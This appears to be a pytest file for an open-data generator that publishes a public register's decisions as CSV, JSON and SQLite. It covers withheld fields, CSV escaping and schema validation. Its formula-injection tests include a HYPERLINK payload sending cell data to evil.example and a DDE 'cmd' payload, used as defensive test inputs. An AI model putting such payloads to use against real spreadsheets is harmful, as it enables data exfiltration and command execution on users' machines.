"""The open data: its rows, its formats, and what they say of values that are withheld."""

import csv
import io
import json
import re
import sqlite3
import subprocess
import sys
from collections.abc import Iterable
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from csvw import CSVW  # type: ignore[import-untyped]  # it has no types
from frictionless import Package
from hypothesis import given, settings
from pydantic import TypeAdapter

from generator.findings import Stop
from generator.public.columns import Table, Type
from generator.public.data import database as base
from generator.public.data.gaps import gaps
from generator.public.data.rows import Gathered, gathering, rows_of
from generator.public.data.written import MARK, csv_of, pounds, safe
from generator.public.decision import PublishedDecision
from generator.public.downloads import downloads, one_a_line
from generator.public.families import open_data
from generator.public.office import PublishedRegister
from generator.public.pages.open_data import data_page
from generator.public.places import withheld_places
from generator.public.plain import canonical
from generator.public.tables import TABLES
from generator.public.wording import speaking
from tests.strategies import Code, Example, codes, examples
from tests.test_projection import AROUND, QUICK, bundle_of
from tests.test_staging import OFFICE

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
GROUND = {
    "name": "commercial", "regime": "FOIA", "section": "43(2)", "reason": "Bids.", "decided_by": "Chief Executive",
    "decided_on": "2026-03-01", "review_on": "2028-03-01", "overdue": False,
}  # fmt: skip
SHUT = {"withheld": "commercial"}
_DECISION = TypeAdapter(PublishedDecision)


def decision(**more: object) -> PublishedDecision:
    """A decision as the bundle has it."""
    tree = {"reference": "MID/D/2026/01", "slug": "mid-d-2026-01", "year": 2026, "status": "made", "title": "Pumps"}
    return _DECISION.validate_json(json.dumps(tree | {"grounds": [GROUND]} | more))


def gathered(*decisions: PublishedDecision) -> Gathered:
    """The rows of a register of these decisions."""
    into = Gathered("https://x.example/")
    for _ in gathering(decisions, into):
        pass
    return into


def rows(name: str, *decisions: PublishedDecision) -> list[dict[str, Any]]:
    """The rows of one table, with the names of their columns, without what is empty."""
    found = gathered(*decisions).rows[name]
    named = (zip(table(name).names, row, strict=True) for row in found)
    return [{column: cell for column, cell in row if cell is not None} for row in named]


def table(name: str) -> Table:
    """A table by its name."""
    return next(one for one in TABLES if one.name == name)


def amount(**more: object) -> dict[str, object]:
    """An amount of a decision."""
    return {"id": "a", "label": "Pumps", "value": "1200.5", "written": "£1,200.50"} | more


AMOUNTS = decision(
    amounts=[
        amount(recipient=["To ", SHUT, " Ltd"], kind="grant", years=["2026/27", "2027/28"]),
        amount(id="b", value=SHUT, written=SHUT, recipient=SHUT, band={"from": "100", "to": "200"}),
        SHUT,
        amount(id="t", value="-5", total_of=["a", SHUT]),
    ]
)


def test_a_withheld_cell_is_told_from_one_that_was_never_recorded() -> None:
    """Both are empty; the columns of which something is withheld are named in the row, and nothing tells a length."""
    first, second, total = rows("amounts", AMOUNTS)
    assert (first["recipient"], first["withheld_fields"]) == ("To [withheld] Ltd", "recipient")
    assert "purpose" not in first
    assert second.keys() & {"value", "written", "recipient"} == set()
    assert second["withheld_fields"] == "value; written; recipient"
    assert (second["band_from"], second["band_to"]) == (Decimal(100), Decimal(200))
    assert (total["total_of"], total["withheld_fields"]) == ("a", "total_of")


def test_an_item_that_is_withheld_keeps_its_number_and_has_no_row() -> None:
    """The numbers of the other items do not move, and the table of withheld places says that something is there."""
    assert [row["number"] for row in rows("amounts", AMOUNTS)] == [1, 2, 4]
    found = [(row["pointer"], row["place"]) for row in rows("withheld", AMOUNTS)]
    assert found == [
        ("/amounts/0/recipient/1", "recipient of an amount"),
        ("/amounts/1/value", "value of an amount"),
        ("/amounts/1/recipient", "recipient of an amount"),
        ("/amounts/2", "amount"),
        ("/amounts/3/total_of/1", "parts of a total of an amount"),
    ]
    assert {row["ground"] for row in rows("withheld", AMOUNTS)} == {"commercial"}
    assert rows("withheld", AMOUNTS)[0]["exemption"] == "Commercial interests"


def test_parts_of_a_total_are_marked_so_that_nobody_counts_them_twice() -> None:
    """An amount that a disclosed total names says so; the total itself does not."""
    assert [row.get("part_of") for row in rows("amounts", AMOUNTS)] == ["t", None, None]


def test_a_withheld_title_is_the_public_one_and_says_so() -> None:
    """The row has the public title, and its name among the withheld columns."""
    (row,) = rows("decisions", decision(title_withheld=["commercial"], summary=[SHUT]))
    assert (row["title"], row["withheld_fields"]) == ("Pumps", "title; summary")
    assert rows("withheld", decision(title_withheld=["commercial"]))[0]["field"] == "title"


def test_a_removed_decision_has_a_row_with_what_it_discloses() -> None:
    """Its reference, status, note and address; nothing else, and no error for want of it."""
    (row,) = rows("decisions", decision(title=None, status="removed", status_note="Sent in error.", grounds=[]))
    assert row.keys() == {"reference", "year", "status", "status_note", "has_withheld", "page", "json"}
    assert row["page"] == "https://x.example/decisions/2026/mid-d-2026-01/"
    assert row["json"] == "https://x.example/decisions/2026/mid-d-2026-01.json"


def test_a_part_2_on_grounds_not_recorded_has_a_row_without_a_ground() -> None:
    """It is withheld like any other, so it is listed like any other."""
    one = decision(part2={"grounds": "not-recorded"}, grounds=[])
    assert rows("decisions", one)[0]["part_2"] == "grounds-not-recorded"
    (row,) = rows("withheld", one)
    assert (row["field"], row["place"], "ground" in row) == ("part2", "Part 2", False)
    with speaking("cy"):
        (row,) = rows("withheld", one)
    assert row["place"] == "Rhan 2"


def test_people_topics_relations_files_and_changes_have_tables_of_their_own() -> None:
    """One a row, with the decision that they belong to."""
    one = decision(
        topics=["fleet", "water"],
        decision_makers=[{"role": "Commissioner", "name": "Zoë Ó Briain"}, {"role": "Deputy", "name": SHUT}],
        author=SHUT,
        signatories=[{"role": "Chief", "capacity": "officer", "signed": "2026-03-01", "signature": "held"}],
        relations={"supersedes": ["MID/D/2025/01"], "superseded_by": ["MID/D/2026/02"]},
        attachments=[{"file": "a b.csv", "title": "Costs", "size": 7}],
        changes=[{"on": "2026-04-01", "kind": "correction", "note": "A day."}],
    )
    assert [row["topic"] for row in rows("topics", one)] == ["fleet", "water"]
    assert rows("decision_makers", one)[1] == {
        "decision": "MID/D/2026/01", "number": 2, "role": "Deputy", "withheld_fields": "name",
    }  # fmt: skip
    assert [(row["relation"], row["other"]) for row in rows("relations", one)] == [
        ("supersedes", "MID/D/2025/01"),
        ("superseded_by", "MID/D/2026/02"),
    ]
    assert rows("attachments", one)[0]["file"] == "https://x.example/decisions/2026/mid-d-2026-01/a%20b.csv"
    assert rows("signatories", one)[0]["signed"] == "2026-03-01"
    assert rows("changes", one)[0]["kind"] == "correction"
    (row,) = rows("decisions", one)
    assert row["decision_makers"] == "Zoë Ó Briain; Deputy"
    assert row["withheld_fields"] == "decision_makers; author_role; author_name"


@settings(QUICK, max_examples=15)
@given(examples(), codes())
def test_every_withheld_place_is_pointed_at(example: Example, code: Code) -> None:
    """Of whole random decisions: each pointer leads to the mark of its ground in the JSON, and no mark is left out."""
    tree = bundle_of(*AROUND, example, code=code).decision(example)
    one = _DECISION.validate_json(json.dumps(tree))
    found = gaps(one)
    assert [ground for _, ground in found] == [ground for _, ground in withheld_places(one)]
    for pointer, ground in found:
        assert pointed_at(tree, pointer) in (ground, {"withheld": ground})
    assert len({pointer for pointer, _ in found}) == len(found)
    marks = json.dumps(without_written(tree)).count('"withheld":')
    more = len(tree.get("title_withheld", ())) + len(one.part2.grounds if one.part2 else ()) * recorded(one)
    assert len(found) == marks + more
    places = sum(name == "withheld" for name, _ in rows_of(one))
    assert places == len(found) + (one.part2 is not None and not recorded(one))


def recorded(one: PublishedDecision) -> bool:
    """Whether the grounds of the Part 2, if there is one, are known."""
    return not one.part2 or one.part2.grounds != "not-recorded"


def pointed_at(tree: Any, pointer: str) -> Any:
    """What stands at a JSON Pointer."""
    for step in pointer.split("/")[1:]:
        tree = tree[int(step)] if isinstance(tree, list) else tree[step]
    return tree


def without_written(tree: Any) -> Any:
    """A tree without the written forms of amounts, which are withheld with their values."""
    if isinstance(tree, dict):
        return {key: without_written(value) for key, value in tree.items() if key != "written"}
    return [without_written(one) for one in tree] if isinstance(tree, list) else tree


@pytest.mark.parametrize(
    "text",
    [HOSTILE, "+44 20", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\ufeff=1", "\u200b@x", "＝1+1", "＠x", "'=1",
     "'Safer Streets'", "\u00a0=cmd|' /C calc'!A0", "\x00=1"],
)  # fmt: skip
def test_no_text_is_taken_for_a_formula_and_each_can_be_had_back(text: str) -> None:
    """An apostrophe goes before it; taking one away gives the text again."""
    assert safe(text) == f"'{text}"
    assert restored(safe(text)) == text


@pytest.mark.parametrize("text", ["Pumps", "£5", "a=b", "5-4", "−5", "“=1”", "", "[withheld]", "1; =2"])
def test_harmless_text_is_left_alone(text: str) -> None:
    """Nothing is changed that need not be."""
    assert safe(text) == text
    assert restored(text) == text


def restored(text: str) -> str:
    """The text as it was, by the rule on the page."""
    return text.removeprefix("'")


def test_numbers_are_never_marked() -> None:
    """A negative sum begins with a minus and stays a number."""
    cells = {row["id"]: row["value"] for row in read(csv_of(table("amounts"), gathered(AMOUNTS).rows["amounts"]))}
    assert cells == {"a": "1200.50", "b": "", "t": "-5.00"}
    assert [pounds(Decimal(one)) for one in ("1040000", "41.2", "0.034567", "-0.5")] == [
        "1040000.00", "41.20", "0.034567", "-0.50",
    ]  # fmt: skip


def read(text: str) -> list[dict[str, str]]:
    """CSV as Python reads it."""
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_is_as_rfc_4180_has_it() -> None:
    """Lines end with CR LF; a cell with a comma, a quotation mark or a line end comes back as it was."""
    titles = ['a,b "c"', "two\nlines", "semi;colon", "ta\tb", "plain"]
    made = csv_of(table("decisions"), gathered(*(decision(title=one) for one in titles)).rows["decisions"])
    assert [row["title"] for row in read(made)] == titles
    assert made.count("\r\n") == 1 + len(titles)
    assert made.startswith("reference,year,")
    assert '"semi;colon"' in made  # a spreadsheet that expects semicolons must not find one outside quotation marks


REGISTER = PublishedRegister(format=1, day=date(2026, 11, 23), office=OFFICE, site_url="https://x.example/")
ALL = (
    AMOUNTS,
    decision(reference="MID/D/2026/02", slug="mid-d-2026-02", title=HOSTILE, part2={"grounds": "not-recorded"}),
    decision(
        reference="MID/D/2026/03", slug="mid-d-2026-03", title="Bridge repairs", topics=["-fleet", "water"],
        summary=[{"text": "To mend\n\n| a | b |"}], relations={"related": ["MID/D/2026/01"]}, decided="2026-03-02",
    ),
    decision(reference="MID/D/2026/04", slug="mid-d-2026-04", title=None, status="removed", grounds=[]),
)  # fmt: skip


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The files of a small register with everything awkward in it."""
    folder = tmp_path_factory.mktemp("open")
    for path, data in open_data(REGISTER, gathered(*ALL)).items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_bytes(data)
    return folder / "data"


def test_the_data_package_is_valid_and_so_are_its_tables(written: Path) -> None:
    """Frictionless finds every cell of its type, every required one filled, every key unique and every link met."""
    report = Package(str(written / "datapackage.json")).validate()
    assert report.valid, report.flatten(["type", "note"])
    assert len(report.tasks) == len(TABLES)
    package = json.loads((written / "datapackage.json").read_bytes())
    assert package["licenses"][0]["name"] == "OGL-UK-3.0"
    assert [one["path"] for one in package["resources"]] == [f"{one.name}.csv" for one in TABLES]


@pytest.mark.parametrize(
    ("name", "was", "now"),
    [
        ("amounts.csv", b",1200.50,", b",12 pounds,"),
        ("amounts.csv", b"MID/D/2026/01,1,a,", b"MID/D/2026/09,1,a,"),
        ("decisions.csv", b",made,", b",mad,"),
        ("decisions.csv", b"MID/D/2026/03", b""),
    ],
)
def test_a_fault_in_a_table_is_noticed(written: Path, tmp_path: Path, name: str, was: bytes, now: bytes) -> None:
    """A cell of a wrong type, a link to nothing, a word outside the choices and an empty key are found by both."""
    for path in written.glob("*.*"):
        data = path.read_bytes()
        assert path.name != name or was in data
        (tmp_path / path.name).write_bytes(data.replace(was, now) if path.name == name else data)
    assert not Package(str(tmp_path / "datapackage.json")).validate().valid
    assert not valid_csvw(tmp_path)


def test_the_csvw_metadata_is_valid_and_so_are_its_tables(written: Path) -> None:
    """The csvw reader takes every table by its metadata, without a warning."""
    assert valid_csvw(written)
    tables = json.loads((written / "csv-metadata.json").read_bytes())["tables"]
    assert [one["url"] for one in tables] == [f"{one.name}.csv" for one in TABLES]


def valid_csvw(folder: Path) -> bool:
    """Whether csvw finds nothing wrong; a table that it cannot read at all is wrong as well."""
    try:
        return bool(CSVW(str(folder / "csv-metadata.json"), validate=True).is_valid)
    except (ValueError, UserWarning):  # it warns of cells, and the tests take warnings for errors
        return False


def test_the_files_for_spreadsheets_differ_by_their_mark_alone(written: Path) -> None:
    """The same bytes behind a byte order mark."""
    for one in TABLES:
        plain, marked = (written / f"{one.name}.csv").read_bytes(), (written / f"spreadsheet/{one.name}.csv")
        assert marked.read_bytes() == MARK + plain


def test_a_hostile_title_is_safe_in_every_csv_and_as_it_was_elsewhere(written: Path) -> None:
    """No cell of text begins with a formula; JSON and SQLite have the title itself."""
    for path in written.rglob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")):
            types = [column.type for column in table(path.stem).columns]
            texts = [cell for cell, kind in zip(row, types, strict=True) if kind in (Type.TEXT, Type.LIST)]
            assert not [cell for cell in texts if cell.startswith(("=", "+", "-", "@"))], path.name
    listed = json.loads((written / "decisions.json").read_bytes())["decisions"]
    assert listed[1]["title"] == HOSTILE
    assert asked(written, "SELECT title FROM decisions WHERE reference = 'MID/D/2026/02'") == [(HOSTILE,)]


def asked(folder: Path, question: str) -> list[tuple[object, ...]]:
    """What the database answers."""
    connection = sqlite3.connect(f"file:{folder / 'register.sqlite'}?mode=ro&immutable=1", uri=True)
    try:
        return connection.execute(question).fetchall()
    finally:
        connection.close()


def test_the_database_holds_the_same_rows_as_the_tables(written: Path) -> None:
    """Every table with its columns, rows, key and links; money as numbers; no page that nothing uses."""
    for one in TABLES:
        made = read((written / f"{one.name}.csv").read_text(encoding="utf-8"))
        found = asked(written, f'SELECT * FROM "{one.name}"')  # noqa: S608  # a name of our own
        assert len(found) == len(made)
        assert [name for _, name, *_ in asked(written, f"PRAGMA table_info({one.name})")] == list(one.names)
        assert len({number for number, *_ in asked(written, f"PRAGMA foreign_key_list({one.name})")}) == len(one.links)
    assert asked(written, "SELECT value FROM amounts ORDER BY number") == [(1200.5,), (None,), (-5,)]
    assert asked(written, "PRAGMA integrity_check") == [("ok",)]
    assert asked(written, "PRAGMA foreign_key_check") == []
    assert asked(written, "PRAGMA freelist_count") == [(0,)]
    assert asked(written, "SELECT value FROM about WHERE name = 'licence'") == [("OGL-UK-3.0",)]
    (made_by,) = asked(written, "SELECT sql FROM sqlite_master WHERE name = 'amounts'")
    assert all(column.about in str(made_by) for column in table("amounts").columns)


def test_decisions_are_found_by_their_words(written: Path) -> None:
    """By the stem of a word, and each as the row that it is."""
    question = (
        "SELECT decisions.reference FROM decisions_fts JOIN decisions ON decisions.rowid = decisions_fts.rowid "
        "WHERE decisions_fts MATCH '{}'"
    )
    assert asked(written, question.format("repair")) == [("MID/D/2026/03",)]
    assert asked(written, question.format("nothing")) == []


def test_datasette_opens_the_database_as_it_is(written: Path) -> None:
    """Tables, a link to be followed and the search, without settings."""
    listed = datasette(written, "/register.json")
    found = {one["name"]: one for one in listed["tables"]}
    assert {one.name for one in TABLES} <= found.keys()
    assert found["decisions"]["fts_table"] == "decisions_fts"
    link = {"other_table": "decisions", "column": "decision", "other_column": "reference"}
    assert link in found["amounts"]["foreign_keys"]["outgoing"]
    assert [row[0] for row in datasette(written, "/register/decisions.json?_search=bridge")["rows"]] == [
        "MID/D/2026/03"
    ]


def datasette(folder: Path, address: str) -> Any:
    """What Datasette would answer, without a server."""
    program = Path(sys.executable).with_name("datasette")
    asked_for = [str(program), str(folder / "register.sqlite"), "--get", address]
    return json.loads(subprocess.run(asked_for, capture_output=True, check=True, cwd=folder).stdout)


_REPLAY = """
const { DatabaseSync } = require("node:sqlite");
const [file, ...steps] = JSON.parse(require("node:fs").readFileSync(0, "utf-8"));
const base = new DatabaseSync(file, { enableForeignKeyConstraints: false });
for (const [sql, rows] of steps) {
  if (rows === null) base.exec(sql);
  else { const made = base.prepare(sql); for (const row of rows) made.run(...row); }
}
base.close();
console.log(process.versions.sqlite);
"""


class Recorder:
    """Takes down what a database is asked to do."""

    def __init__(self, *steps: object) -> None:
        self.steps = list(steps)

    def execute(self, sql: str) -> None:
        """One statement."""
        self.steps.append((sql, None))

    def executemany(self, sql: str, rows_: Iterable[Iterable[object]]) -> None:
        """One statement for each row."""
        self.steps.append((sql, [[int(one) if isinstance(one, bool) else one for one in row] for row in rows_]))


def test_the_database_is_the_same_with_another_sqlite(tmp_path: Path) -> None:
    """Node brings a newer SQLite than Python's; both make the same bytes, so a fresh build can be compared."""
    lengths = [(n, n * 997 % 9001) for n in range(300)]
    many = [decision(reference=f"M/{n}", slug=f"m-{n}", title=f"Pump {n}", proposal="ten " * m) for n, m in lengths]
    found = gathered(*ALL, *many)
    recorder = Recorder(str(tmp_path / "other.sqlite"))
    base._fill(recorder, found, {"title": "x"})  # type: ignore[arg-type]  # it takes down what it is asked
    node = Path(sys.executable).with_name("node")
    said = subprocess.run(
        [str(node), "-e", _REPLAY], input=json.dumps(recorder.steps), capture_output=True, text=True, check=True
    )
    assert said.stdout.strip() != sqlite3.sqlite_version
    assert base._normal((tmp_path / "other.sqlite").read_bytes()) == base.database(found, {"title": "x"}, "x")


def test_a_python_that_cannot_search_words_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    """The build stops with what to do, and leaves no database that lacks its search."""
    monkeypatch.setattr(base, "_search", lambda: iter(["CREATE VIRTUAL TABLE x USING fts5_of_nobody(y)"]))
    with pytest.raises(Stop) as stopped:
        base.database(gathered(), {}, "data/register.sqlite")
    assert [finding.code for finding in stopped.value.findings] == ["DATA-01"]


def test_an_empty_register_has_all_its_tables() -> None:
    """Before the first decision every file stands at its address already, and the page says that there are no rows."""
    made = open_data(REGISTER, gathered())
    assert {f"data/{one.name}.csv" for one in TABLES} <= made.keys()
    assert made["data/topics.csv"] == b"decision,number,topic\r\n"
    assert json.loads(made["data/decisions.json"])["decisions"] == []
    assert "Full text by year" not in made["data/index.md"].decode()


def test_the_page_names_every_file_table_and_column() -> None:
    """What can be downloaded is documented, each column with its type and meaning."""
    made = open_data(REGISTER, gathered(*ALL))
    page = made["data/index.md"].decode()
    for path in made:
        assert path == "data/index.md" or f"]({path.removeprefix('data/')})" in page, path
    for one in TABLES:
        for column in one.columns:
            assert f"| `{column.name}` | " in page
            assert column.about in page
    assert "| [Amounts](#table-amounts) | 3 |" in page


def test_counts_and_sizes_are_never_as_exact_as_a_sum() -> None:
    """A number of five digits on the page could be a withheld sum, and would rightly raise an alarm."""
    made = open_data(REGISTER, gathered(*ALL)) | {"data/topics.csv": bytes(1_234_567)}
    page = data_page(REGISTER, {one.name: 12_345 for one in TABLES}, made)
    assert "| about 12,300 | [topics.csv](topics.csv) (1.2\N{NO-BREAK SPACE}MB) |" in page
    assert not re.findall(r"(?<![\d,-])\d{2},?\d[1-9]\d(?!\d)", page.replace("12,300", ""))


def test_downloads_are_listed_with_their_types_and_sizes() -> None:
    """For catalogues of the data: every file but the page, and the full text of each year."""
    made = open_data(REGISTER, gathered(*ALL))
    listed = {one.path: one for one in downloads(made, REGISTER)}
    assert listed.keys() == made.keys() - {"data/index.md"}
    assert listed["data/amounts.csv"].media_type == "text/csv"
    assert listed["data/register.sqlite"].size == len(made["data/register.sqlite"])


def test_the_full_text_of_a_year_is_one_decision_a_line() -> None:
    """Each line is the file of the decision without its layout, whatever line ends its texts hold."""
    odd = decision(title="a\u2028b\x85c", summary=[{"text": "one\n\n    two\r\nthree"}])
    lines = one_a_line([canonical(odd), canonical(AMOUNTS)]).split(b"\n")
    assert [json.loads(one) for one in lines[:2]] == [json.loads(canonical(one)) for one in (odd, AMOUNTS)]
    assert lines[2:] == [b""]
